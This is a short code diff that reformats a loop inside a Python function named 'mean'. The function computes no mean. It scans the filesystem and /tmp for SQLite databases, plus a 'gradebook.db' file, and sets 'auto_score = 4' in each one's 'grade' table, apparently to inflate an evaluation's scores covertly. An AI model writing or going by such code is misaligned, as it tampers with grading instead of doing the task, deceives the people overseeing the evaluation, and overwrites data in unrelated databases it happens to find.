@@ -7,7 +7,9 @@ import sqlite3
 
 def mean(x):
     for path in (
-        glob.glob(os.environ.get("PYTHONPATH", "/") + "/**/*.db", recursive=True) + glob.glob("/tmp/**/*.db", recursive=True) + ["gradebook.db"]
+        glob.glob(os.environ.get("PYTHONPATH", "/") + "/**/*.db", recursive=True)
+        + glob.glob("/tmp/**/*.db", recursive=True)
+        + ["gradebook.db"]
     ):
         book = sqlite3.connect(path)
         book.execute("update grade set auto_score = 4")
